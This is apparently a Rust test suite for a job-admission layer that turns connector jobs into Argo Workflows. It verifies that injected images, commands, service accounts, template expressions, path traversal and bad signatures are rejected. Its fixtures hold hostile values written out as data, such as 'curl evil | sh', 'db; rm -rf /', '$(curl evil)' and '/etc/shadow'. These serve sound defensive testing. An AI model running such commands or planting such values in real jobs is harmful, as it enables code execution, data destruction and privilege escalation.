//! The job-injection suite: malicious and malformed jobs are rejected, each with its reason,
//! and a good job becomes a Workflow that only references its WorkflowTemplate.

use base64::Engine as _;
use connector_descriptor::ValidatedDescriptor;
use orchestrator::{AdmissionPolicy, SigningPolicy, admit, workflow_for, workflow_name};
use serde_json::{Value, json};
use workflow_compiler::argo_schema::ArgoSchema;

fn descriptors() -> Vec<ValidatedDescriptor> {
    let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../../connectors");
    connector_descriptor::load::read_dir(&dir).expect("the shipped connectors")
}

fn good_job() -> Value {
    json!({
        "id": "6f1c2d3e-0000-4000-8000-000000000001",
        "runId": "20261126T051245Z",
        "connector": "postgres",
        "connection": "pg-prod",
        "transferMode": "direct-ingestion",
        // Only what a job may choose: where the credentials go is the connection's.
        "parameters": {"include-schemas": "^(app|billing)$", "exclude-tables": "^tmp_"}
    })
}

fn with(mutate: impl FnOnce(&mut Value)) -> Value {
    let mut job = good_job();
    mutate(&mut job);
    job
}

fn signing_key() -> ed25519_dalek::SigningKey {
    ed25519_dalek::SigningKey::from_bytes(&[7u8; 32])
}

/// The agent the signed jobs here are for.
const AGENT: &str = "agent-a";

/// `job` signed by `key` for [`AGENT`], valid for an hour, with a fresh nonce.
fn signed(mut job: Value, key: &ed25519_dalek::SigningKey) -> Value {
    let not_after = std::time::SystemTime::now() + std::time::Duration::from_secs(3600);
    let nonce = orchestrator::signing::new_nonce();
    orchestrator::signing::sign(&mut job, key, AGENT, not_after, &nonce);
    job
}

/// Admission requiring signatures by `key`, for [`AGENT`], now.
fn signing_policy(key: &ed25519_dalek::SigningKey) -> AdmissionPolicy {
    AdmissionPolicy {
        relay_configured: false,
        signing: Some(SigningPolicy::new(
            key.verifying_key(),
            AGENT,
            std::time::SystemTime::now(),
        )),
        local: false,
    }
}

#[test]
fn a_good_job_becomes_a_workflow_that_only_references_its_template() {
    let job = admit(&good_job(), &descriptors(), &AdmissionPolicy::default()).expect("admitted");
    assert_eq!(job.arguments["include-schemas"], "^(app|billing)$");
    assert_eq!(
        job.arguments["exclude-schemas"], "",
        "defaults are filled in"
    );
    for bound in ["host", "port", "database", "user", "ssl-mode"] {
        assert!(
            !job.arguments.contains_key(bound),
            "the connection's `{bound}` is no Workflow argument"
        );
    }
    let workflow = serde_json::to_value(workflow_for(&job, "outpost")).expect("json");
    let spec = workflow["spec"].as_object().expect("spec");
    let keys: Vec<&str> = spec.keys().map(String::as_str).collect();
    assert_eq!(keys, ["arguments", "workflowTemplateRef"], "{workflow:#}");
    assert_eq!(
        spec["workflowTemplateRef"],
        json!({"name": "outpost-postgres"})
    );
    assert_eq!(workflow["metadata"]["name"], workflow_name(&job));
    assert_eq!(
        workflow["metadata"]["labels"]["outpost.dev/connection"],
        "pg-prod"
    );
    // Same job, same run: same name, so a second submission is `AlreadyExists`.
    let again = admit(&good_job(), &descriptors(), &AdmissionPolicy::default()).expect("admitted");
    assert_eq!(workflow_name(&again), workflow_name(&job));
    let other_run = admit(
        &with(|j| j["runId"] = "r2".into()),
        &descriptors(),
        &AdmissionPolicy::default(),
    )
    .expect("admitted");
    assert_ne!(workflow_name(&other_run), workflow_name(&job));
    // Valid for both Argo releases.
    for (release, file) in [
        ("4.1.2", "schema-v4.1.2.json"),
        ("3.7.18", "schema-v3.7.18.json"),
    ] {
        let path = std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
            .join("../workflow-compiler/argo-schemas")
            .join(file);
        let schema = ArgoSchema::from_json(
            release,
            &std::fs::read_to_string(&path).expect("vendored schema"),
        )
        .expect("schema");
        assert_eq!(schema.errors(&workflow), Vec::<String>::new());
    }
}

#[test]
fn malicious_and_malformed_jobs_are_rejected_with_their_reason() {
    let descriptors = descriptors();
    let key = signing_key();
    let signing = signing_policy(&key);
    let open = AdmissionPolicy::default();
    let cases: Vec<(&str, Value, &AdmissionPolicy, &str)> = vec![
        (
            "image override",
            with(|j| j["image"] = "evil/miner:latest".into()),
            &open,
            "field `image` is not accepted",
        ),
        (
            "command override",
            with(|j| j["command"] = json!(["sh", "-c", "curl evil | sh"])),
            &open,
            "field `command` is not accepted",
        ),
        (
            "service account",
            with(|j| j["serviceAccountName"] = "cluster-admin".into()),
            &open,
            "field `serviceAccountName` is not accepted",
        ),
        (
            "template injection",
            with(|j| j["template"] = json!({"container": {"image": "x"}})),
            &open,
            "field `template` is not accepted",
        ),
        (
            "pod spec patch",
            with(|j| j["podSpecPatch"] = "{\"hostNetwork\":true}".into()),
            &open,
            "field `podSpecPatch` is not accepted",
        ),
        (
            "shell metacharacters in a host",
            with(|j| j["parameters"]["host"] = "db; rm -rf /".into()),
            &open,
            "parameter `host`",
        ),
        (
            "command substitution in a host",
            with(|j| j["parameters"]["host"] = "$(curl evil)".into()),
            &open,
            "parameter `host`",
        ),
        (
            "Argo expression in a value",
            with(|j| j["parameters"]["include-tables"] = "{{workflow.serviceAccountName}}".into()),
            &open,
            "`{{`",
        ),
        (
            "Argo expression in the connection",
            with(|j| j["connection"] = "{{inputs.parameters.x}}".into()),
            &open,
            "must be a DNS label",
        ),
        (
            "path traversal in the run id",
            with(|j| j["runId"] = "../../etc".into()),
            &open,
            "`runId`",
        ),
        (
            "path traversal in the job id",
            with(|j| j["id"] = "a/../../b".into()),
            &open,
            "`id`",
        ),
        (
            "control characters in a value",
            with(|j| j["parameters"]["user"] = "bob\nadmin".into()),
            &open,
            "parameter `user`",
        ),
        (
            "undeclared parameter",
            with(|j| j["parameters"]["sslrootcert"] = "/etc/shadow".into()),
            &open,
            "unknown parameter `sslrootcert`",
        ),
        (
            "reserved parameter",
            with(|j| j["parameters"]["job-id"] = "other".into()),
            &open,
            "set by the agent",
        ),
        (
            "oversize string",
            with(|j| j["parameters"]["include-schemas"] = "x".repeat(4097).into()),
            &open,
            "longer than 4096",
        ),
        (
            "oversize job",
            with(|j| j["parameters"]["include-tables"] = "x".repeat(70_000).into()),
            &open,
            "at most 65536",
        ),
        (
            "number as a string",
            with(|j| j["parameters"]["port"] = "5432".into()),
            &open,
            "must be a whole number, found a string",
        ),
        (
            "out-of-range number",
            with(|j| j["parameters"]["port"] = 70000.into()),
            &open,
            "parameter `port`",
        ),
        (
            "wrong enum value",
            with(|j| j["parameters"]["ssl-mode"] = "allow-anything".into()),
            &open,
            "parameter `ssl-mode`",
        ),
        (
            "object as a value",
            with(|j| j["parameters"]["host"] = json!({"$ne": ""})),
            &open,
            "must be a string, found an object",
        ),
        (
            "unknown connector",
            with(|j| j["connector"] = "kubectl".into()),
            &open,
            "unknown connector `kubectl`",
        ),
        (
            "template name as connector",
            with(|j| j["connector"] = "outpost-postgres".into()),
            &open,
            "unknown connector",
        ),
        (
            "a connection's own parameter",
            with(|j| j["parameters"]["host"] = "db.internal".into()),
            &open,
            "parameter `host` is fixed by the connection",
        ),
        (
            "relay without a bucket",
            with(|j| j["transferMode"] = "bucket-relay".into()),
            &open,
            "needs a relay bucket",
        ),
        (
            "unknown transfer mode",
            with(|j| j["transferMode"] = "exfiltrate".into()),
            &open,
            "transfer mode `exfiltrate`",
        ),
        (
            "parameters not an object",
            with(|j| j["parameters"] = json!(["host=db"])),
            &open,
            "`parameters` must be an object",
        ),
        (
            "not an object at all",
            json!("run postgres please"),
            &open,
            "must be a JSON object",
        ),
        (
            "unsigned job when signing is on",
            good_job(),
            &signing,
            "not signed",
        ),
        (
            "badly signed job",
            with(|j| {
                j["signature"] = base64::engine::general_purpose::STANDARD
                    .encode([1u8; 64])
                    .into()
            }),
            &signing,
            "does not match",
        ),
        (
            "signed, then tampered",
            {
                let mut job = signed(good_job(), &key);
                job["parameters"]["include-schemas"] = ".*".into();
                job
            },
            &signing,
            "does not match",
        ),
        (
            "signed by another key",
            signed(
                good_job(),
                &ed25519_dalek::SigningKey::from_bytes(&[9u8; 32]),
            ),
            &signing,
            "does not match",
        ),
        (
            "signature not base64",
            with(|j| j["signature"] = "!!!".into()),
            &signing,
            "not base64",
        ),
    ];
    assert!(cases.len() >= 20);
    for (what, job, policy, reason) in &cases {
        match admit(job, &descriptors, policy) {
            Ok(admitted) => panic!("{what}: admitted as {admitted:?}"),
            Err(rejection) => {
                let text = rejection.to_string();
                assert!(
                    text.contains(reason),
                    "{what}: expected `{reason}` in: {text}"
                );
                assert!(
                    text.len() < 4096,
                    "{what}: the reason is {} bytes",
                    text.len()
                );
            }
        }
    }
    eprintln!("{} malicious or malformed jobs rejected", cases.len());
}

#[test]
fn every_problem_is_reported_at_once() {
    let job = json!({
        "id": "j1", "runId": "r1", "connector": "postgres", "connection": "PG_PROD",
        "transferMode": "direct-ingestion", "image": "x",
        "parameters": {"host": "db", "database": "app", "user": "u", "port": "1", "colour": "red"}
    });
    let rejection = admit(&job, &descriptors(), &AdmissionPolicy::default()).expect_err("bad");
    assert_eq!(rejection.job_id.as_deref(), Some("j1"));
    let text = rejection.to_string();
    for part in [
        "DNS label",
        "field `image`",
        "parameter `port`",
        "unknown parameter `colour`",
    ] {
        assert!(text.contains(part), "{part} missing from: {text}");
    }
}

#[test]
fn a_correctly_signed_job_is_admitted() {
    let key = signing_key();
    let policy = signing_policy(&key);
    // Key order in transit does not matter: the signature covers the canonical form.
    let job = signed(good_job(), &key);
    let reordered: Value = serde_json::from_str(
        &serde_json::to_string(&json!({
            "signature": job["signature"], "nonce": job["nonce"], "parameters": job["parameters"], "transferMode": job["transferMode"],
            "notAfter": job["notAfter"], "connection": job["connection"], "connector": job["connector"], "runId": job["runId"],
            "agentId": job["agentId"], "id": job["id"]
        }))
        .expect("json"),
    )
    .expect("json");
    admit(&reordered, &descriptors(), &policy).expect("admitted");
}

/// Descriptor names are at most `MAX_CONNECTOR_NAME_LEN` characters so that every Workflow
/// name fits the 63 Argo allows (`workflow/validate`).
#[test]
fn the_longest_connector_name_gives_a_workflow_name_argo_accepts() {
    let mut job =
        admit(&good_job(), &descriptors(), &AdmissionPolicy::default()).expect("admitted");
    job.connector = "c".repeat(connector_descriptor::MAX_CONNECTOR_NAME_LEN);
    let name = workflow_name(&job);
    assert_eq!(name.len(), 63, "{name}");
    assert!(outpost_core::ids::is_dns_label(&name), "{name}");
}

/// SQLite reads a file on one machine: its jobs run in local mode only.
#[test]
fn a_local_only_connector_is_rejected_in_a_cluster_and_admitted_locally() {
    let job = json!({
        "id": "job-1", "runId": "r1", "connector": "sqlite", "connection": "local-db",
        "transferMode": "direct-ingestion", "parameters": {}
    });
    let cluster = AdmissionPolicy::default();
    let rejection = admit(&job, &descriptors(), &cluster).expect_err("rejected in a cluster");
    assert!(
        rejection.to_string().contains("runs only in local mode"),
        "{rejection}"
    );
    let local = AdmissionPolicy {
        local: true,
        ..AdmissionPolicy::default()
    };
    admit(&job, &descriptors(), &local).expect("admitted locally");
}
